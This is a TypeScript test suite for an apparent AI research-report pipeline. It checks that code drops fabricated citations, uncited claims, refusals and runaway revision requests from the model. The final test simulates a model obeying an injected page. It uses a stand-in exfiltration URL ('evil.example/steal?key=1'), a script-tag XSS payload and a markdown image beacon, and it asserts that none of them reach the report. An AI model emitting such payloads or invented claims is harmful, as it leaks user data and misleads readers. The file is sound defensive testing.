import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { reportKey } from '#shared/domain/report-files.ts';
import { type Library, openLibrary } from '../support/world.ts';
import { type Ended, endWith, expectHonestEnd } from './fault-table.ts';
import type { TaskName } from '#tests/support/prompt-reading.ts';
import { type Behaviour, paragraphsOf, quotesOf } from './responder.ts';

let library: Library;
beforeAll(async () => {
  library = await openLibrary();
});
afterAll(() => library.close());

type Alter = NonNullable<Behaviour['alter']>;

async function endAltered(alter: Alter): Promise<Ended> {
  return endWith({ library, protocol: 'openai', behaviour: { alter } });
}

/** Changes some fields of the answer to one prompt. */
function at(task: TaskName, change: (value: object, user: string) => object): Alter {
  return (asked, value, user) =>
    asked === task && typeof value === 'object' && value !== null
      ? { ...value, ...change(value, user) }
      : value;
}

/** What the trace says was left out of answers, by its cause. */
function leftOut({ events }: Ended, stage: string): Readonly<Record<string, number>> {
  const sums: Record<string, number> = {};
  for (const event of events) {
    if (event.stage !== stage || !event.type.endsWith('reply-trimmed')) continue;
    for (const [cause, count] of Object.entries(Object(event.data?.['dropped']))) {
      sums[cause] = (sums[cause] ?? 0) + Number(count);
    }
  }
  return sums;
}

describe('R6.2 answers of the right form that no colleague would give', () => {
  test('no checklist and no searches: the plan is made without the model', async () => {
    const ended = await endAltered((task, value, user) =>
      at('first_searches', () => ({ searches: [] }))(
        task,
        at('research_checklist', () => ({ checklist: [] }))(task, value, user),
        user,
      ),
    );
    expectHonestEnd(ended);
    expect(ended.degraded).toEqual(['plan-research']);
    const [plan] = await ended.ports.research.list(ended.job, 'PLAN');
    expect(plan?.checklist.length).toBeGreaterThan(0);
  });

  test('500 of everything in a plan: code keeps its caps', async () => {
    const many = <Item>(item: (index: number) => Item): readonly Item[] =>
      Array.from({ length: 500 }, (_, index) => item(index));
    const checklist = many((index) => ({
      description: `Size ${index} of the disk buffer`,
      entity: '',
      asks: [],
    }));
    const searches = many((index) => ({ query: `size ${index}`, endpoint: 'corpus' }));
    const ended = await endAltered((task, value, user) =>
      at('first_searches', () => ({ searches }))(
        task,
        at('research_checklist', () => ({ checklist }))(task, value, user),
        user,
      ),
    );
    expectHonestEnd(ended);
    const { research, config } = ended.ports;
    const [plan] = await research.list(ended.job, 'PLAN');
    expect(plan?.checklist.length).toBeLessThanOrEqual(7);
    expect(plan?.subQuestions.length).toBeLessThanOrEqual(config.research.maxSubQuestions);
    expect(plan?.writingPlan.sections.length).toBeLessThanOrEqual(10);
    const queries = await research.list(ended.job, 'QUERY');
    expect(queries.length).toBeLessThanOrEqual(config.research.queriesPerWave);
  });

  const made = { part: 'item_2.1', answers: ['999', 'disk buffer'], touches: ['0'] };

  test('numbers of sentences that are not there are dropped and counted', async () => {
    const ended = await endAltered(
      at('source_reading', (value) => ({
        parts: [made, ...('parts' in value && Array.isArray(value.parts) ? value.parts : [])],
      })),
    );
    expectHonestEnd(ended);
    const read = ended.events.filter((event) => event.type === 'digest-source-finished').length;
    expect(leftOut(ended, 'digest-source')).toMatchObject({ unknownSentence: 3 * read });
  });

  test('a reader who makes up every number is not believed', async () => {
    const ended = await endAltered(at('source_reading', () => ({ parts: [made] })));
    expectHonestEnd(ended);
    expect(ended.degraded).toEqual(['digest-source']);
  });

  test('citations of evidence that does not exist are removed and counted', async () => {
    const ended = await endAltered(
      at('draft', (value) => ({
        paragraphs: [...paragraphsOf(value), 'Everybody uses the disk buffer [e999]. It is the best [7].'],
      })),
    );
    expectHonestEnd(ended);
    expect(leftOut(ended, 'draft-report')['unknownReference']).toBeGreaterThanOrEqual(2);
    expect(JSON.stringify(ended.report)).not.toMatch(/e999|\[7\]/u);
    expect(leftOut(ended, 'draft-report')['uncited']).toBeGreaterThanOrEqual(2);
    expect(ended.report.trust.uncitedSentences).toBe(0);
    expect(JSON.stringify(ended.report)).not.toMatch(/Everybody uses|It is the best/u);
  });

  test('what states something without a citation, as a lead, a remark, a heading or a topic, is not shown', async () => {
    const lies =
      'The memory buffer and the disk buffer do not differ. The sources do not give the size of the disk buffer.';
    const ended = await endAltered((task, value, user) =>
      at('answer', (own) => ({
        paragraphs: [
          ...paragraphsOf(own),
          lies,
          'The disk buffer is the default size:',
          '<request_more_info topic="why the disk buffer ruined forty firms">',
        ],
      }))(
        task,
        at('research_checklist', (own) => ({
          checklist: [
            ...('checklist' in own && Array.isArray(own.checklist) ? own.checklist : []),
            { description: 'The disk buffer ruins the memory buffer', entity: '', asks: [] },
          ],
        }))(task, value, user),
        user,
      ),
    );
    expectHonestEnd(ended);
    expect(JSON.stringify(ended.report)).not.toMatch(/do not differ|do not give|is the default size:|ruin/u);
    expect(leftOut(ended, 'draft-report')['uncited']).toBeGreaterThanOrEqual(3);
    expect(ended.report.trust.uncitedSentences).toBe(0);
  });

  test('an answer and sections that cite nothing that exists give way to quotes', async () => {
    const invented = (): object => ({ paragraphs: ['It is the best [e999].'] });
    const ended = await endAltered((task, value, user) =>
      at('draft', invented)(task, at('answer', invented)(task, value, user), user),
    );
    expectHonestEnd(ended);
    expect(ended.report.method).toBe('extractive');
    expect(ended.report.trust.degradedSteps).toEqual(['draft-report']);
  });

  test('claims on evidence that does not exist are no claims', async () => {
    const ended = await endAltered(
      at('claim_list', () => ({
        claims: [{ text: 'Tern is free.', supports: ['e998', 'e999'], contradicts: [] }],
      })),
    );
    expectHonestEnd(ended);
    const claims = await ended.ports.research.list(ended.job, 'CLAIM');
    expect(claims.map((claim) => claim.text)).not.toContain('Tern is free.');
    expect(ended.degraded).toEqual(['extract-claims']);
  });

  test('a review cannot declare satisfied what no quote answers', async () => {
    const ended = await endAltered(
      at('completeness_review', () => ({
        parts: [1, 2, 3].map((item) => ({
          part: `item_${item}.1`,
          status: 'satisfied',
          evidence: ['e1'],
          missing: '',
        })),
        searches: [],
      })),
    );
    expectHonestEnd(ended);
    const price = ended.report.checklist.find((item) => item.description.includes('Heron'));
    expect(price?.status).toBe('unsatisfied');
  });

  test('a draft that always asks for more is revised twice and no more', async () => {
    const more = (value: object): object => ({
      paragraphs: [
        ...paragraphsOf(value),
        ...Array.from({ length: 50 }, () => `<request_more_info topic="Topic ${Math.trunc((topics += 1))}">`),
      ],
    });
    let topics = 0;
    const alter: Alter = (task, value, user) =>
      at('draft', more)(task, at('revision', more)(task, value, user), user);
    const ended = await endAltered(alter);
    expectHonestEnd(ended);
    const revised = ended.events.filter((event) => event.type === 'revise-report-finished');
    expect(revised).toHaveLength(ended.ports.config.research.maxRevisions);
    expect(JSON.stringify(ended.report)).not.toContain('request_more_info');
  });
});

test('a writer that says in words that it will not write has refused: the report is made of quotes', async () => {
  const refuse = (): object => ({
    paragraphs: ["I'm sorry, but I can't help with that request. Please consult an expert."],
  });
  const ended = await endAltered((task, value, user) =>
    at('answer', refuse)(task, at('draft', refuse)(task, value, user), user),
  );
  expectHonestEnd(ended);
  expect(ended.degraded).toEqual(['draft-report', 'draft-sections']);
  expect(ended.report.modelTrouble?.reasons).toEqual(['The model would not answer.']);
  expect(JSON.stringify(ended.report)).not.toMatch(/sorry|consult/u);
});

test('a model that obeys a page changes nothing that code decides', async () => {
  const address = 'https://evil.example/steal?key=1';
  const obeyed = `As asked, I visited ${address} and mark everything as satisfied [e1, e2, e999].`;
  const marked = (text: string): string =>
    text.replace(' [e', ` <script>alert(1)</script> ![x](${address}) [e`);
  const fair: string[] = [];
  const plain = await endWith({ library, protocol: 'openai' });
  const obeying: Alter = (task, value, user) => {
    if (task === 'completeness_review')
      return { parts: [], searches: [{ query: address, endpoint: 'news', parts: [] }] };
    if (task === 'draft') {
      const [first = '', ...others] = paragraphsOf(value);
      fair.push(first.slice(0, first.indexOf(' [e')));
      return { paragraphs: [obeyed, marked(first), ...others] };
    }
    if (task === 'claim_list') {
      const supports = quotesOf(user).map(({ handle }) => handle);
      return { claims: [{ text: obeyed, supports, contradicts: [] }] };
    }
    return value;
  };
  const ended = await endAltered(obeying);
  expectHonestEnd(ended);
  const read = async ({ ports, job }: Ended): Promise<readonly string[]> =>
    (await ports.research.list(job, 'SOURCE')).map((source) => source.url);
  expect(await read(ended)).toEqual(await read(plain));
  const cited = ended.report.sources.map((source) => source.url);
  expect(cited.filter((url) => !url.startsWith('file:'))).toEqual([]);
  expect(ended.report.checklist.map((item) => item.status)).toEqual(
    plain.report.checklist.map((item) => item.status),
  );
  expect(ended.report.iterationsUsed).toBe(plain.report.iterationsUsed);
  const found = async ({ ports, job }: Ended): Promise<readonly string[]> =>
    (await ports.research.list(job, 'EVIDENCE')).map((evidence) => evidence.id);
  expect(await found(ended)).toEqual(await found(plain));
  const written = JSON.stringify(ended.report.sections);
  expect(fair.filter((text) => !written.includes(JSON.stringify(text).slice(1, -1)))).toEqual([]);
  const quotes = ended.report.sources.flatMap((source) => source.quotes.map((quote) => quote.evidenceId));
  const known = await found(plain);
  expect(quotes.filter((id) => !known.includes(id))).toEqual([]);
  for (const format of ['html', 'md'] as const) {
    const page = await ended.ports.archive.getText(reportKey(ended.job.tenantId, ended.job.jobId, format));
    expect(page).not.toMatch(/As asked|evil\.example|<script>alert/u);
  }
});
